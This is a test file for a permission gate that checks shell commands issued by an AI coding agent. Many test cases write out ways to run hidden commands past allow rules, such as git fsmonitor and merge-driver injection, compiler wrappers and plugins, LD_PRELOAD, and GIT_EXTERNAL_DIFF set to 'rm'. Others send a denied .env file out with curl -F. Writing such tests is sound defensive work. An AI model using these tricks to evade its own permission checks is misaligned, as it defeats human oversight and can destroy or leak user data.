import { execFileSync } from 'node:child_process';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeTempProject, type TempProject } from '../../src/testing/temp-project.js';
import { gateRig, type Rig } from '../support/gate-rig.js';

let project: TempProject;
beforeAll(() => {
  project = makeTempProject({ files: { 'a.txt': 'x\n', list: '/etc/passwd\n', x: 'p\n' } });
  execFileSync('git', ['init', '-q', project.directory]);
});
afterAll(() => project.remove());

const rig = (more: { allow?: readonly string[]; deny?: readonly string[] } = {}): Rig =>
  gateRig({ cwd: project.directory, home: project.home, ...more });

describe('commands that write or run something by an unusual word', () => {
  it.each([
    'echo x | uniq - .claude/settings.json',
    'echo x | timeout 5 uniq - .git/hooks/pre-commit',
    'echo x | xxd - .git/config',
    'strings @list',
    'git config edit --local',
  ])('are asked about without a rule: %s', async (command) => {
    expect(await rig().bash(command)).toBe('asks');
  });

  it('are refused where a rule denies the file', async () => {
    const denied = rig({ allow: ['Bash'], deny: ['Edit(.git/**)'] });
    expect(await denied.bash('echo x | uniq - .git/config')).toBe('denied');
    expect(await denied.bash("sed -n 's[x[y[w .git/config];[z[' a.txt")).not.toBe('runs');
  });

  it.each([
    'git -C . push origin main',
    'git --no-pager push',
    'git -c a.b=c push',
    'npm -w x publish',
    'npm --silent publish',
  ])('are not let pass by a rule for the subcommand: %s', async (command) => {
    const denied = [
      'Bash(git push *)',
      'Bash(git push)',
      'Bash(npm publish *)',
      'Bash(npm publish)',
    ];
    expect(await rig({ allow: ['Bash'], deny: denied }).bash(command)).toBe('asks');
  });

  it.each([
    ['Bash(sed -n *)', "sed -n 's[x[touch P[e;#];[z[' a.txt"],
    ['Bash(sed *)', "sed 's]x]y]w P' a.txt"],
    ['Bash(sed -n *)', 'sed -n -f x a.txt'],
    ['Bash(sed -n *)', 'sed -n --file=x a.txt'],
    ['Bash(sed -n *)', `echo '"1e touch P" a.txt' | xargs sed -n`],
    ['Bash(curl *)', "curl -w '%output{x}y' http://127.0.0.1"],
    ['Bash(awk *)', 'ls | xargs awk'],
    ['Bash(awk *)', 'awk -bf x a.txt'],
    ['Bash(awk *)', 'awk --fil x a.txt'],
    ['Bash(awk *)', 'awk -dP 1 a.txt'],
    ['Bash(git *)', "git --attr-source HEAD -c core.fsmonitor='touch P' status"],
    ['Bash(git -C *)', "git -C . -c core.fsmonitor='touch P' status"],
    ['Bash(git *)', 'git merge-index ./run.sh -a'],
    ['Bash(git *)', "git remote-ext o 'sh -c touch% P'"],
    ['Bash(git *)', 'git merge -s evil main'],
    ['Bash(git *)', 'git some-alias'],
    ['Bash(tar *)', 'tar dIf ./prog x.tar'],
    ['Bash(tar *)', 'tar 7xIf ./prog x.tar'],
    ['Bash(env *)', 'env touch P'],
    ['Bash(git bisect *)', 'git bisect visualize git/../evil.sh'],
    ['Bash(git bisect *)', 'git bisect visualize git config core.hooksPath x'],
    ['Bash(git bisect *)', 'git bisect view ./evil.sh'],
    ['Bash(git filter-branch *)', "git filter-branch --setup 'touch P'"],
    ['Bash(gcc *)', 'gcc @opts'],
    ['Bash(c99 *)', 'c99 @opts'],
    ['Bash(cc *)', 'cc --specs=./s a.c'],
    ['Bash(gcc-12 *)', 'gcc-12 --prefix=./px/ a.c'],
    ['Bash(g++ *)', 'g++ -Wl,-plugin,./x.so a.c'],
    ['Bash(c++ *)', 'c++ -wrapper ./evil.sh a.c'],
    ['Bash(x86_64-linux-gnu-gcc-12 *)', 'x86_64-linux-gnu-gcc-12 -wrapper ./evil.sh a.c'],
    ['Bash(clang *)', 'clang -Wp,-MD,.envrc a.c'],
    ['Bash(clang++-15 *)', 'clang++-15 --config ./x a.c'],
    ['Bash(gcc *)', 'gcc -aux-info f a.c'],
    ['Bash(g++ *)', "g++ '-fmodule-mapper=|touch P' a.c"],
    ['Bash(npm view *)', 'npm view git+https://x --git=./evil.sh'],
    ['Bash(npm view *)', 'npm view x --viewer ./evil.sh'],
    ['Bash(npm view *)', 'npm view x --gi=./evil.sh'],
    ['Bash(npm test *)', 'npm test -- --require ./evil.js'],
    ['Bash(sqlite3 *)', "sqlite3 a.db '.sh touch P'"],
    ['Bash(sqlite3 *)', "sqlite3 --cmd '.sh touch P' a.db"],
    ['Bash(sqlite3 *)', 'sqlite3 -init x a.db'],
    ['Bash(python3 -m pytest *)', 'python3 -m pytest -W error::evil.X'],
    ['Bash(python3 -m pytest *)', 'python3 -m pytest -p evil'],
    ['Bash(python3 -m pytest *)', 'python3 -m pytest -c x.ini'],
    ['Bash(python3 -m pytest *)', 'python3 -m pytest -o a=b'],
    ['Bash(pip *)', 'pip --python=./evil list'],
    ['Bash(pip *)', 'pip list --log=/x'],
    ['Bash(pip3 *)', 'pip3 --python ./evil list'],
    ['Bash(nm *)', 'nm --plugin ./x.so a.o'],
    ['Bash(nm *)', 'nm --pl ./x.so a.o'],
    ['Bash(ld *)', 'ld -plugin ./x.so a.o'],
    ['Bash(ar *)', 'ar --plugin ./x.so t a.a'],
    ['Bash(diff3 *)', 'diff3 --diff-program=./x a b c'],
    ['Bash(sdiff *)', 'sdiff --diff-p=./x a b'],
    ['Bash(install *)', 'install -s --strip-program=./x a.txt b'],
    ['Bash(make *)', "make X=a 'Y!=touch'"],
    ['Bash(make *)', "make 'Y != touch'"],
    ['Bash(make *)', "make 'Y = $(shell touch P)'"],
    ['Bash(helm *)', 'helm template . --post-renderer ./evil.sh'],
    ['Bash(pylint *)', 'pylint --init-hook=x a.py'],
    ['Bash(rspec *)', 'rspec -r ./evil'],
    ['Bash(mocha *)', 'mocha -r ./evil.js'],
    ['Bash(mocha *)', 'mocha --require=./evil.js'],
    ['Bash(npx mocha *)', 'npx mocha -r ./evil.js'],
    ['Bash(wget *)', 'wget --rejected-log=x http://127.0.0.1'],
    ['Bash(rustc *)', 'rustc --emit=link=x a.rs'],
    ['Bash(nodejs *)', 'nodejs -e 1'],
    ['Bash(vi *)', "vi -c '!touch P'"],
    ['Bash(nvim *)', "nvim -c '!touch P'"],
    ['Bash(ag *)', 'ag --pager ./evil.sh x'],
    ['Bash(ack *)', 'ack --pager=./evil.sh x'],
    ['Bash(bat *)', 'bat --pager ./evil.sh a.txt'],
    ['Bash(dc *)', "dc -e '!touch P'"],
    ['Bash(tsc *)', 'tsc --generateTrace x'],
    ['Bash(tsc *)', 'tsc --outDir ../x'],
    ['Bash(tsc *)', 'tsc --outFile x.js'],
    ['Bash(tsc *)', 'tsc -p ../other'],
    ['Bash(tool *)', 'tool --load-plugin=./x'],
    ['Bash(tool *)', 'tool --editor ./x'],
    ['Bash(jest *)', 'jest --globalSetup ./x'],
    ['Bash(vitest *)', 'vitest run --environment ./x'],
    ['Bash(ctags *)', 'ctags --options=./x'],
    ['Bash(tool *)', 'tool --reporter ./x.js'],
    ['Bash(env *)', 'env LD_PRELOAD=./x.so ls'],
  ])('are not covered by %s: %s', async (rule, command) => {
    expect(await rig({ allow: [rule] }).bash(command)).toBe('asks');
  });

  it.each([
    ['Bash(sed -n *)', "sed -n 's/[/]/x/p' a.txt"],
    ['Bash(awk *)', "awk -F: -v a=1 '{print $1}' a.txt"],
    ['Bash(git *)', 'git --no-pager log --oneline'],
    ['Bash(git -C *)', 'git -C . status'],
    ['Bash(git some-alias *)', 'git some-alias x'],
    ['Bash(tar *)', 'tar xzf x.tar.gz'],
    ['Bash(env NODE_ENV=test npm *)', 'env NODE_ENV=test npm test'],
    ['Bash(gcc *)', 'gcc -O2 -Wall -Wextra -std=c11 -Iinclude -DX=1 -o main main.c -lm'],
    ['Bash(g++-12 *)', 'g++-12 -c a.cpp'],
    ['Bash(npm view *)', 'npm view vitest version --json'],
    ['Bash(npm test *)', 'npm test -- --reporter=dot --coverage'],
    ['Bash(npm install *)', 'npm install --save-dev x --no-audit'],
    ['Bash(sqlite3 *)', "sqlite3 ./a.db 'select 1'"],
    ['Bash(python3 -m pytest *)', 'python3 -m pytest -xvs -k name tests'],
    ['Bash(make *)', 'make -j4 all V=1'],
    ['Bash(git bisect *)', 'git bisect good'],
    ['Bash(npx tsc *)', 'npx tsc --noEmit -p tsconfig.json'],
    ['Bash(npx vitest *)', 'npx vitest run --reporter=verbose a.test.ts'],
    ['Bash(kubectl get *)', 'kubectl get pods --output json'],
    ['Bash(dotnet build *)', 'dotnet build --configuration Release'],
    ['Bash(cargo test *)', 'cargo test -- --show-output'],
    ['Bash(tool *)', 'tool --verbose --log-level debug --help x'],
    ['Bash(tool --config=x *)', 'tool --config=x y'],
  ])('are covered where the rule names all of it: %s', async (rule, command) => {
    expect(await rig({ allow: [rule] }).bash(command)).toBe('runs');
  });
});

describe('a repository whose configuration starts programs or looks elsewhere', () => {
  it.each([
    ['merge.x.driver', 'touch P'],
    ['core.worktree', '../../outside'],
  ])('is asked about: %s', async (key, value) => {
    execFileSync('git', ['config', key, value], { cwd: project.directory });
    try {
      expect(await rig().bash('git log -1 --oneline')).toBe('asks');
    } finally {
      execFileSync('git', ['config', '--unset', key], {
        cwd: project.directory,
        env: {
          ...process.env,
          GIT_WORK_TREE: project.directory,
          GIT_DIR: `${project.directory}/.git`,
        },
      });
    }
    expect(await rig().bash('git log -1 --oneline')).toBe('runs');
  });
});

it('judges a script of sed with many blanks at once', async () => {
  const command = `sed '${' '.repeat(60_000)}x' a.txt`;
  expect(await rig({ allow: ['Bash(sed *)'] }).bash(command)).not.toBe('denied');
});

describe('a variable whose value is run as a command', () => {
  it.each([
    "export GIT_EXTERNAL_DIFF='rm a.txt'; git diff",
    "declare -x GIT_EXTERNAL_DIFF='rm a.txt'; git diff",
    "typeset -x GIT_EXTERNAL_DIFF='rm a.txt'; git diff",
    "readonly GIT_EXTERNAL_DIFF='rm a.txt'; export GIT_EXTERNAL_DIFF; git diff",
    "printf -v GIT_EXTERNAL_DIFF 'rm a.txt'; export GIT_EXTERNAL_DIFF; git diff",
    "printf -v GIT_EXTERNAL_DIFF %s 'rm a.txt'; export GIT_EXTERNAL_DIFF; git diff",
    "command export 'GIT_EXTERNAL_DIFF=rm a.txt'; git diff",
    "x=GIT_EXTERNAL_DIFF; export $x='rm a.txt'; git diff",
    "GIT_EXTERNAL_DIFF='rm a.txt' git diff",
  ])('is held to the rules for commands: %s', async (command) => {
    expect(await rig({ allow: ['Bash'], deny: ['Bash(rm *)'] }).bash(command)).not.toBe('runs');
  });

  it('may be set to another command', async () => {
    const denied = rig({ allow: ['Bash'], deny: ['Bash(rm *)'] });
    expect(await denied.bash('export PAGER=cat X=1; git diff')).toBe('runs');
  });
});

describe('a denied file in quotes that the program takes off', () => {
  it.each([
    `curl -F 'f=@"./.env"' u`,
    `curl -F 'f=@"./.env";type=text/plain' u`,
    `curl -F 'f=<"./.env"' u`,
    `prog --in='"./.env"'`,
    `prog "'.env'"`,
  ])('is asked about: %s', async (command) => {
    const denied = rig({ allow: ['Bash'], deny: ['Read(./.env)'] });
    expect(await denied.bash(command)).not.toBe('runs');
  });
});
